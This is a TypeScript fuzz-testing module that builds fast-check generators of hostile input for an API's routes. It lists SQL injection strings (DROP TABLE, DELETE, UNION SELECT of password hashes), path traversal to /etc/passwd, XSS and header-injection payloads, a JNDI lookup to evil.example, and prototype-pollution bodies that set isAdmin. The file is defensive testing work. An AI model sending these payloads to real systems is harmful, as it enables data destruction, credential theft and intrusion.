/**
 * fast-check arbitraries of hostile input: strings that attack SQL, paths, encodings and parsers,
 * values of the wrong type, deep nesting, and request bodies derived from a route's JSON Schema
 * with fields valid, junk, missing or added.
 */
import fc from 'fast-check';
import type { JsonSchema } from './openapi.js';

const HOSTILE_STRINGS = [
  '',
  ' ',
  "'",
  '"',
  '`',
  '\\',
  "' OR '1'='1",
  "' OR 1=1 --",
  '"; DROP TABLE user_account; --',
  "'); DELETE FROM relais; --",
  "' UNION SELECT password_hash, email FROM user_account --",
  '1; SELECT pg_sleep(5)',
  "1' AND sqlite_version() > '0",
  'SELECT * FROM session',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/dev/zero',
  'file:///etc/passwd',
  '\u0000',
  'a\u0000b',
  '\u0000\u0000\u0000',
  '\u0001\u0002\u001b[31m',
  '\r\nSet-Cookie: relais_session=volé',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '-0',
  '9007199254740993',
  '99999999999999999999999999999999',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil',
  '\ufeffBOM',
  'Ｓｅｌｅｃｔ',
  '👶🏽👨‍👩‍👧‍👦',
  'Zalgo: z̸̧̛͎̤a̵̡͓͚l̷̰̈́g̸͚͂o̶̲͌',
  'é'.repeat(300),
  'x'.repeat(10_000),
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '2A004',
  '85191',
  'admin@relais.test',
  'operator',
  'manager',
];

/** Hostile, random, unicode and oversized strings. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 300, maxLength: 3000 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.constantFrom(...HOSTILE_STRINGS))
      .map(([a, b]) => `${a}${b}`),
  },
);

function nest(depth: number, leaf: unknown, asArray: boolean): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = asArray ? [value] : { a: value };
  return value;
}

/** Objects or arrays nested hundreds of levels deep. */
export const deeplyNested: fc.Arbitrary<unknown> = fc
  .tuple(fc.integer({ min: 20, max: 2000 }), fc.boolean())
  .map(([depth, asArray]) => nest(depth, 'fond', asArray));

const hugeNumber = fc.constantFrom(
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER - 2,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 63,
  0.1 + 0.2,
  -0,
  5e-324,
);

/** A value of any wrong type: numbers, booleans, null, arrays, objects, deep nesting, hostile strings. */
export const junkValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: hugeNumber },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.array(fc.oneof(fc.integer(), hostileString), { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 4 }) },
  { weight: 1, arbitrary: deeplyNested },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Strings within the length limits of a field, hostile ones included (NUL bytes, SQL, unicode…). */
function boundedString(min: number, max: number): fc.Arbitrary<string> {
  const fits = (s: string) => s.length >= min && s.length <= max;
  return fc.oneof(
    { weight: 2, arbitrary: fc.string({ minLength: min, maxLength: Math.min(max, 60) }) },
    { weight: 2, arbitrary: hostileString.filter(fits) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.string({ minLength: min, maxLength: Math.min(max, 20) }), fc.constantFrom(...HOSTILE_STRINGS))
        .map(([a, b]) => `${a}${b}`.slice(0, max))
        .filter(fits),
    },
  );
}

/** Values that satisfy (or nearly satisfy) a JSON Schema, so that requests also reach the handler. */
export function plausible(schema: JsonSchema, known: Record<string, string[]> = {}, name = ''): fc.Arbitrary<unknown> {
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((s) => plausible(s, known, name)));
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
    case 'array':
      return fc.array(schema.items ? plausible(schema.items, known) : fc.jsonValue(), { maxLength: 3 });
    case 'object':
      return objectBody(schema, known);
    case 'string': {
      const knownValues = known[name];
      if (knownValues?.length) return fc.constantFrom(...knownValues);
      if (schema.format === 'email') return fc.emailAddress();
      if (schema.format === 'uuid') return fc.uuid();
      if (schema.format === 'uri') return fc.webUrl();
      if (schema.format === 'date-time') {
        return fc
          .date({ noInvalidDate: true, min: new Date(0), max: new Date('2100-01-01') })
          .map((d) => d.toISOString());
      }
      if (schema.pattern) return fc.stringMatching(new RegExp(schema.pattern));
      return boundedString(schema.minLength ?? 0, schema.maxLength ?? 200);
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

const EXTRA_KEYS = [
  'role',
  'relaisId',
  'relais_id',
  'id',
  'isAdmin',
  'password_hash',
  '$where',
  'constructor',
  'toString',
];

type Mutation = { key: string; action: 'remove' | 'junk'; junk: unknown };

/**
 * An object for an object schema: every property plausible, then up to three of them removed or
 * replaced by junk, plus unexpected properties. A third of them are valid, and reach the handler.
 */
export function objectBody(schema: JsonSchema, known: Record<string, string[]> = {}): fc.Arbitrary<unknown> {
  const properties = Object.entries(schema.properties ?? {});
  const required = new Set(schema.required ?? []);
  const base = fc.tuple(
    ...properties.map(([name, propertySchema]) =>
      required.has(name)
        ? plausible(propertySchema, known, name)
        : fc.option(plausible(propertySchema, known, name), { nil: undefined, freq: 3 }),
    ),
  );
  const mutations: fc.Arbitrary<Mutation[]> =
    properties.length === 0
      ? fc.constant<Mutation[]>([])
      : fc.oneof(
          { weight: 1, arbitrary: fc.constant<Mutation[]>([]) },
          {
            weight: 2,
            arbitrary: fc.array(
              fc.record({
                key: fc.constantFrom(...properties.map(([name]) => name)),
                action: fc.constantFrom('remove' as const, 'junk' as const),
                junk: junkValue,
              }),
              { minLength: 1, maxLength: 3 },
            ),
          },
        );
  const extra = fc.option(
    fc.dictionary(fc.oneof(fc.constantFrom(...EXTRA_KEYS), hostileString), junkValue, { maxKeys: 3 }),
    { nil: undefined, freq: 3 },
  );
  return fc.tuple(base, mutations, extra).map(([values, changes, extraFields]) => {
    const body: Record<string, unknown> = {};
    for (const [key, value] of Object.entries(extraFields ?? {})) {
      Object.defineProperty(body, key, { value, enumerable: true, writable: true, configurable: true });
    }
    properties.forEach(([name], i) => {
      if (values[i] !== undefined) body[name] = values[i];
    });
    for (const change of changes) {
      if (change.action === 'remove') delete body[change.key];
      else body[change.key] = change.junk;
    }
    return body;
  });
}

/** JSON that does not parse, or parses into something no route accepts. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '{',
      '}',
      '{"a":',
      '{"a":1,}',
      '[1,2',
      '{"a":1}}',
      "{'a':1}",
      'nul',
      'tru',
      'undefined',
      'NaN',
      '\u0000',
      '{"a":"\\ud800"}',
      '{"a":"\\u0000"}',
      '{"__proto__":{"isAdmin":true}}',
      '{"constructor":{"prototype":{"isAdmin":true}}}',
      '{"a":1e999999}',
      '{"a":' + '9'.repeat(400) + '}',
      '"' + 'x'.repeat(5000),
      '['.repeat(5000) + ']'.repeat(5000),
      '{"a":'.repeat(3000) + '1' + '}'.repeat(3000),
      '\ufeff{}',
      '{}garbage',
      '0x10',
    ),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.json().map((j) => j.slice(0, Math.max(1, j.length - 1))) },
);

/** A content type no route accepts, or a JSON one with a strange parameter. */
export const otherContentType = fc.constantFrom(
  'text/plain',
  'text/html',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----relais',
  'application/octet-stream',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/vnd.api+json',
  'application/json-patch+json',
  'application/jsonx',
  'image/png',
  '*/*',
  ';;;',
  'application/json, text/plain',
);

/** Percent-encodes anything, lone surrogates included (encodeURIComponent throws on them). */
export function encode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...Buffer.from(value, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');
  }
}

/** As it would appear in a query string: strings as they are, everything else as JSON. */
export function asText(value: unknown): string {
  return typeof value === 'string' ? value : (JSON.stringify(value) ?? String(value));
}

/** Path segments that attack the router itself: traversal, bad percent-encoding, oversized. */
export const rawPathJunk = fc.constantFrom(
  '..',
  '.',
  '%',
  '%00',
  '%ZZ',
  '%E0%A4%A',
  '%C0%AE%C0%AE',
  '%2e%2e%2f%2e%2e%2f',
  '%2F',
  '..%252f..%252f',
  'a'.repeat(250),
  '%20',
  '-1',
  '0',
  ';jsessionid=1',
  '*',
);

/** Query strings that are broken as a whole. */
export const rawQueryJunk = fc.constantFrom(
  '%',
  '%ZZ',
  '&&&',
  '=',
  '==&==',
  'a=%E0%A4%A',
  '__proto__[isAdmin]=true',
  'constructor[prototype][x]=1',
  'a[b][c][d][e]=1',
  'q[]=1&q[]=2',
  'limit=1&limit=2&limit=3',
  `x=${'y'.repeat(5000)}`,
);
